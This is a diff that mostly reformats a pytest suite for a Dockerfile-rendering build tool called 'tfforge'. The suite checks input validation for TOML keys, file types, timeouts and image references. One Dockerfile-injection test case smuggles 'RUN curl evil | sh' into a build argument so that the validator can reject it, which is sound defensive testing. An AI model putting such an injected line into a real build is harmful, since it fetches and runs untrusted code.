@@ -10,17 +10,16 @@ import shutil
 import signal
 import subprocess
 import sys
-import time
 from pathlib import Path
 
 import pytest
-from invoke.exceptions import Exit
-
 from conftest import FIXTURES, ROOT, invoke
 from faults import invoke_disk_full
+from invoke.exceptions import Exit
+
 from tfforge import files
-from tfforge.commands import runner as cli
 from tfforge.commands import build, detect
+from tfforge.commands import runner as cli
 from tfforge.errors import ConfigError
 
 CPUINFO = FIXTURES / "cpuinfo" / "haswell-i7-4770.cpuinfo"
@@ -47,9 +46,13 @@ def cli_error(proc: subprocess.CompletedProcess, *needles: str) -> str:
 
 
 def detect_json(**kw):
-    return detect.detect_command(as_json=True, save=kw.pop("save", None),
-                                 cpuinfo=kw.pop("cpuinfo", str(CPUINFO)),
-                                 gcc_version=kw.pop("gcc_version", None), probe_tf=False)
+    return detect.detect_command(
+        as_json=True,
+        save=kw.pop("save", None),
+        cpuinfo=kw.pop("cpuinfo", str(CPUINFO)),
+        gcc_version=kw.pop("gcc_version", None),
+        probe_tf=False,
+    )
 
 
 # ---- regular files only ---------------------------------------------------------------------
@@ -61,8 +64,11 @@ def test_fifo_inputs_are_refused_not_waited_on(tmp_path):
     project = tmp_path / "proj"
     project.mkdir()
     os.mkfifo(project / "tfforge.toml")
-    cli_error(invoke("detect", "--cpuinfo", str(CPUINFO), "--no-tf", cwd=project, timeout=20),
-              "tfforge.toml", "not a regular file")
+    cli_error(
+        invoke("detect", "--cpuinfo", str(CPUINFO), "--no-tf", cwd=project, timeout=20),
+        "tfforge.toml",
+        "not a regular file",
+    )
 
 
 def test_user_file_reader_refuses_folders_and_bad_text(tmp_path):
@@ -77,13 +83,16 @@ def test_user_file_reader_refuses_folders_and_bad_text(tmp_path):
 
 
 # ---- snapshots with wrong types ---------------------------------------------------------------
-@pytest.mark.parametrize("doc, needle", [
-    ({"arch": ["x"]}, '"arch"'),
-    ({"name": {"a": 1}}, '"name"'),
-    ({"features": "avx"}, '"features"'),
-    ({"physical_cores": "many"}, '"physical_cores"'),
-    ({"logical_cpus": True}, '"logical_cpus"'),
-])
+@pytest.mark.parametrize(
+    "doc, needle",
+    [
+        ({"arch": ["x"]}, '"arch"'),
+        ({"name": {"a": 1}}, '"name"'),
+        ({"features": "avx"}, '"features"'),
+        ({"physical_cores": "many"}, '"physical_cores"'),
+        ({"logical_cpus": True}, '"logical_cpus"'),
+    ],
+)
 def test_snapshot_fields_of_the_wrong_type(tmp_path, doc, needle):
     path = tmp_path / "h.json"
     path.write_text(json.dumps({"schema": "tfforge-host/1", "flags": ["sse", "sse2"], **doc}))
@@ -116,37 +125,42 @@ def test_errors_name_the_environment_variable_or_toml_key(tmp_path, monkeypatch)
     (tmp_path / "tfforge.toml").write_text('[tfforge]\nbase_image = "UPPER/case"\n')
     assert "tfforge.toml key 'base_image'" in one_line(build.render_command, {"target": "haswell"})
     (tmp_path / "tfforge.toml").write_text("[tfforge]\nbuild_timeout = true\n")
-    assert "'build_timeout'" in one_line(build.build_command, {"target": "haswell"},
-                                          dry_run=True)
+    assert "'build_timeout'" in one_line(build.build_command, {"target": "haswell"}, dry_run=True)
     (tmp_path / "tfforge.toml").write_text("[tfforge]\nserve_port = 70000\n")
     from tfforge.commands import serve
+
     assert "tfforge.toml key 'serve_port'" in one_line(serve.serve_command)
     (tmp_path / "tfforge.toml").write_text("[tfforge]\npublish_timeout = 0\n")
     from tfforge.commands import publish
+
     assert "tfforge.toml key 'publish_timeout'" in one_line(
-        publish.publish_command, ["x.whl"], repository="http://127.0.0.1:1/")
+        publish.publish_command, ["x.whl"], repository="http://127.0.0.1:1/"
+    )
     (tmp_path / "tfforge.toml").write_text("[tfforge]\nbuild_timeout = -5\n")
-    assert "'build_timeout'" in one_line(build.build_command, {"target": "haswell"},
-                                          dry_run=True)
+    assert "'build_timeout'" in one_line(build.build_command, {"target": "haswell"}, dry_run=True)
     assert not (tmp_path / "builds").exists()
 
 
 @pytest.mark.parametrize("timeout", ["nan", "1e400", "-inf", "0"])
 def test_build_timeout_must_be_finite_and_positive(tmp_path, monkeypatch, timeout):
     monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
-    assert "--timeout" in one_line(build.build_command, {"target": "haswell"}, dry_run=True,
-                                   timeout=timeout)
+    assert "--timeout" in one_line(
+        build.build_command, {"target": "haswell"}, dry_run=True, timeout=timeout
+    )
     assert not (tmp_path / "builds").exists()
 
 
 # ---- Dockerfile injection and image references -------------------------------------------------
-@pytest.mark.parametrize("options, needle", [
-    ({"bazel_args": ["--jobs=4\n"]}, "--bazel-arg"),
-    ({"bazel_args": ["--x\nRUN curl evil | sh"]}, "--bazel-arg"),
-    ({"base_image": "UPPER/case"}, "--base-image"),
-    ({"remote_cache": "http://cache.example.com/a\nb"}, "--remote-cache"),
-    ({"gcc_version": "\u0661\u0662"}, "--gcc-version"),
-])
+@pytest.mark.parametrize(
+    "options, needle",
+    [
+        ({"bazel_args": ["--jobs=4\n"]}, "--bazel-arg"),
+        ({"bazel_args": ["--x\nRUN curl evil | sh"]}, "--bazel-arg"),
+        ({"base_image": "UPPER/case"}, "--base-image"),
+        ({"remote_cache": "http://cache.example.com/a\nb"}, "--remote-cache"),
+        ({"gcc_version": "\u0661\u0662"}, "--gcc-version"),
+    ],
+)
 def test_values_reaching_the_dockerfile_must_match_whole(tmp_path, monkeypatch, options, needle):
     monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
     assert needle in one_line(build.render_command, {"target": "haswell", **options})
@@ -155,6 +169,7 @@ def test_values_reaching_the_dockerfile_must_match_whole(tmp_path, monkeypatch, 
 
 def test_registry_hosts_may_be_uppercase_repositories_not(tmp_path, monkeypatch):
     from tfforge.build import spec
+
     assert spec.check_image_ref("Registry.Example.com:5000/team/img:1") is False
     assert spec.check_image_ref("localhost/img") is False
     with pytest.raises(ConfigError):
@@ -198,14 +213,18 @@ def test_a_build_folder_that_is_a_file_or_link(tmp_path, monkeypatch):
     assert not (tmp_path / "nowhere").exists()
 
 
-@pytest.mark.parametrize("what", ["builds-file", "builds-link", "root-file", "root-link",
-                                  "cache-file", "cache-link"])
+@pytest.mark.parametrize(
+    "what", ["builds-file", "builds-link", "root-file", "root-link", "cache-file", "cache-link"]
+)
 def test_project_and_cache_places_that_are_not_folders(tmp_path, monkeypatch, what):
     monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
     monkeypatch.setenv("TFFORGE_CACHE", str(tmp_path / "cache"))
     place, kind = what.split("-")
-    target = {"builds": tmp_path / "builds", "root": tmp_path / "root",
-              "cache": tmp_path / "cache"}[place]
+    target = {
+        "builds": tmp_path / "builds",
+        "root": tmp_path / "root",
+        "cache": tmp_path / "cache",
+    }[place]
     if kind == "file":
         target.write_text("")
     else:
@@ -213,6 +232,7 @@ def test_project_and_cache_places_that_are_not_folders(tmp_path, monkeypatch, wh
     if place == "root":
         monkeypatch.setenv("TFFORGE_ROOT", str(target))
     from tfforge import paths
+
     with pytest.raises(ConfigError) as info:
         (paths.cache_dir("verify") if place == "cache" else paths.builds_dir())
     assert str(target) in str(info.value)
@@ -229,8 +249,16 @@ def test_full_disk_leaves_nothing_behind(tmp_path):
     proc = _full_disk(2000, "render", "--target", "haswell", cwd=tmp_path)
     cli_error(proc, "cannot be written")
     assert list((tmp_path / "builds").iterdir()) == []
-    proc = _full_disk(100, "detect", "--cpuinfo", str(CPUINFO), "--no-tf", "--save",
-                      str(tmp_path / "h.json"), cwd=tmp_path)
+    proc = _full_disk(
+        100,
+        "detect",
+        "--cpuinfo",
+        str(CPUINFO),
+        "--no-tf",
+        "--save",
+        str(tmp_path / "h.json"),
+        cwd=tmp_path,
+    )
     cli_error(proc, "h.json", "cannot be written")
     assert sorted(p.name for p in tmp_path.iterdir()) == ["builds"]
 
@@ -238,6 +266,7 @@ def test_full_disk_leaves_nothing_behind(tmp_path):
 # ---- flags invoke mis-parses, exit codes, Ctrl-C ------------------------------------------------
 def test_engine_image_that_is_a_flag():
     from tfforge.commands import engine
+
     assert "--image" in one_line(engine.engine_command, image="--help")
 
 
@@ -251,16 +280,32 @@ def test_unusable_docker_client_is_refused_before_rendering(tmp_path, monkeypatc
 @pytest.mark.parametrize("url", ["http://127.0.0.1:abc/", "http://[::1/"])
 def test_publish_repository_with_a_bad_port(tmp_path, url):
     from tfforge.commands import publish
-    assert "--repository" in one_line(publish.publish_command, [str(tmp_path / "x.whl")],
-                                       repository=url)
+
+    assert "--repository" in one_line(
+        publish.publish_command, [str(tmp_path / "x.whl")], repository=url
+    )
 
 
 def test_ctrl_c_while_starting_exits_130(tmp_path):
     """SIGINT right after tasks.py installed the handler, while the heavy imports still run
     (python -X importtime reports each finished import on stderr as it happens)."""
-    proc = subprocess.Popen([sys.executable, "-X", "importtime", "-m", "invoke", "-r", str(ROOT),
-                             "match", str(CPUINFO)], cwd=tmp_path, stdout=subprocess.PIPE,
-                            stderr=subprocess.PIPE, text=True)
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-X",
+            "importtime",
+            "-m",
+            "invoke",
+            "-r",
+            str(ROOT),
+            "match",
+            str(CPUINFO),
+        ],
+        cwd=tmp_path,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
     for line in proc.stderr:
         if line.rstrip().endswith("| tfforge.host.isa"):  # imported after the handler
             proc.send_signal(signal.SIGINT)
@@ -274,6 +319,7 @@ def test_ctrl_c_while_starting_exits_130(tmp_path):
 # ---- bench's output folder ---------------------------------------------------------------
 def test_bench_out_onto_a_file_is_refused_before_running(tmp_path):
     from tfforge.commands import bench
+
     (tmp_path / "out").write_text("mine\n")
     with pytest.raises(ConfigError, match="--out .*is a file"):
         bench.bench_plan(["w.whl"], out_dir=str(tmp_path / "out"))
@@ -282,21 +328,25 @@ def test_bench_out_onto_a_file_is_refused_before_running(tmp_path):
 
 def test_golden_file_that_is_a_fifo(tmp_path):
     from tfforge.runtime import g2p
+
     os.mkfifo(tmp_path / "golden.tsv")
     with pytest.raises(ConfigError, match="golden file: .*not a regular file"):
         g2p.read_golden(tmp_path / "golden.tsv")
 
 
-@pytest.mark.parametrize("kind, text, needle", [
-    ("dir", "", "not a regular file"),
-    ("file", "tfforge = 5\n", "must be a table"),
-    ("file", "[tfforge]\ntf_version = 2.21\n", "tfforge.toml key 'tf_version'"),
-    ("file", "[tfforge]\nbuild_timeout = nan\n", "tfforge.toml key 'build_timeout'"),
-    ("file", "[tfforge]\nbuild_timeout = inf\n", "tfforge.toml key 'build_timeout'"),
-    ("file", "[tfforge]\nmkl = \"maybe\"\n", "tfforge.toml key 'mkl'"),
-    ("file", "[tfforge]\nverify_jobs = 1.5\n", "tfforge.toml key 'verify_jobs'"),
-    ("file", "\xff", "not UTF-8"),
-])
+@pytest.mark.parametrize(
+    "kind, text, needle",
+    [
+        ("dir", "", "not a regular file"),
+        ("file", "tfforge = 5\n", "must be a table"),
+        ("file", "[tfforge]\ntf_version = 2.21\n", "tfforge.toml key 'tf_version'"),
+        ("file", "[tfforge]\nbuild_timeout = nan\n", "tfforge.toml key 'build_timeout'"),
+        ("file", "[tfforge]\nbuild_timeout = inf\n", "tfforge.toml key 'build_timeout'"),
+        ("file", '[tfforge]\nmkl = "maybe"\n', "tfforge.toml key 'mkl'"),
+        ("file", "[tfforge]\nverify_jobs = 1.5\n", "tfforge.toml key 'verify_jobs'"),
+        ("file", "\xff", "not UTF-8"),
+    ],
+)
 def test_tfforge_toml_that_is_unusable(tmp_path, monkeypatch, kind, text, needle):
     monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
     if kind == "dir":
